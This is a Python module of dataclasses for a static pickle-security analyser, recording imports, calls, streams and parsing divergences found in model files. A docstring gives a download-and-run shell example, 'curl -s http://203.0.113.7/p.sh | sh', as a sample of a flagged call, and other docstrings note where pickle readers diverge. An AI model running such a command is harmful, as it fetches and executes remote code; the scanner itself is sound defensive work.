"""What the static pickle analysis reports: imports, calls, streams and the report of one file or member.

Plain records (no behaviour beyond properties); :mod:`workbench.model.pickles` builds them.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from workbench.model.policy import DANGEROUS, SAFE, UNKNOWN

__all__ = ["PickleCall", "PickleImport", "PickleReport", "PickleStream", "worst_safety"]

_SAFETY_RANK = {SAFE: 0, UNKNOWN: 1, DANGEROUS: 2}


@dataclass(frozen=True, slots=True)
class PickleImport:
    """One global a pickle imports.

    Attributes:
        module / name: the imported global; None when it cannot be resolved statically.
        offset: byte offset of the importing opcode (from the start of the file or archive member).
        opcode: ``GLOBAL``, ``STACK_GLOBAL``, ``INST`` or ``EXT1/2/4``.
        stream: index of the pickle stream (0 for the first).
        safety: ``safe``, ``dangerous`` or ``unknown`` under the policy.
        rule: policy rule that decided (None for unknown).
        member: archive member holding the stream, or None.
        note: anything odd about the opcode itself (e.g. invalid UTF-8).
        nested: for a pickle carried inside another (bytes, base64 or hex text), the path to it, outermost first
            (``BINBYTES at offset 3 > base64 text in SHORT_BINUNICODE at offset 9``); ``offset`` is then the inner
            stream's offset; '' for the file's own streams.
        resolved: the name the policy classified when it is not the imported one (``os.system`` for
            ``pathlib.os.system``), or ''.
    """

    module: str | None
    name: str | None
    offset: int
    opcode: str
    stream: int
    safety: str
    rule: str | None = None
    member: str | None = None
    note: str = ""
    nested: str = ""
    resolved: str = ""

    @property
    def qualified(self) -> str:
        """``module.name`` (``?`` for an unresolved part)."""
        return f"{self.module or '?'}.{self.name or '?'}"


@dataclass(frozen=True, slots=True)
class PickleCall:
    """A call the load would make to something not known-safe, rendered as text (never executed).

    Attributes:
        text: e.g. ``posix.system('curl -s http://203.0.113.7/p.sh | sh')``.
        callee: the called global (``module.name``) or the rendered callee expression.
        offset: byte offset of the calling opcode; opcode: ``REDUCE``, ``INST``, ``OBJ``, ``NEWOBJ``...
        stream / member: where it is.
        safety: the callee's class (``dangerous`` or ``unknown``).
    """

    text: str
    callee: str
    offset: int
    opcode: str
    stream: int
    safety: str
    member: str | None = None
    nested: str = ""


@dataclass(frozen=True, slots=True)
class PickleStream:
    """One pickle stream: ``start``/``end`` offsets (end None if it never reached STOP), protocol, opcode count."""

    index: int
    start: int
    end: int | None
    protocol: int | None
    opcodes: int
    error: str | None = None


@dataclass(frozen=True, slots=True)
class PickleReport:
    """Everything the analysis found in one file or archive member.

    Attributes:
        member: archive member, or None for a standalone file.
        streams / imports / calls: as found, in stream order.
        trailing: offset where bytes that are not a pickle begin after the last stream, or None.
        problems: what could not be followed, with offsets (truncation, invalid opcodes, budgets).
        unexamined: what a cap (bytes, opcodes, streams, argument length) left unanalysed, with offsets.
        divergences: where readers of the same bytes part ways (a field running past its FRAME: the C unpickler
            reads on, the pure-Python one fails; a FRAME running past the end), as ``(offset, text)``.
        lenient: where the walk read on where ``pickletools`` (and so picklescan) stops, as ``(offset, text)``.
        nested: pickles found inside this one's values and analysed (their imports and calls are in ``imports``
            and ``calls`` with their ``nested`` path).
    """

    member: str | None
    streams: tuple[PickleStream, ...]
    imports: tuple[PickleImport, ...]
    calls: tuple[PickleCall, ...]
    trailing: int | None = None
    problems: tuple[str, ...] = ()
    unexamined: tuple[str, ...] = ()
    divergences: tuple[tuple[int, str], ...] = ()
    lenient: tuple[tuple[int, str], ...] = ()
    nested: int = 0

    @property
    def safety(self) -> str:
        """Worst class among the imports (``safe`` when there is none)."""
        return worst_safety(i.safety for i in self.imports)

    @property
    def is_pickle(self) -> bool:
        return bool(self.streams)


def worst_safety(values: Any) -> str:
    """The worst of ``safe`` < ``unknown`` < ``dangerous`` (``safe`` for none)."""
    return max(values, key=_SAFETY_RANK.__getitem__, default=SAFE)
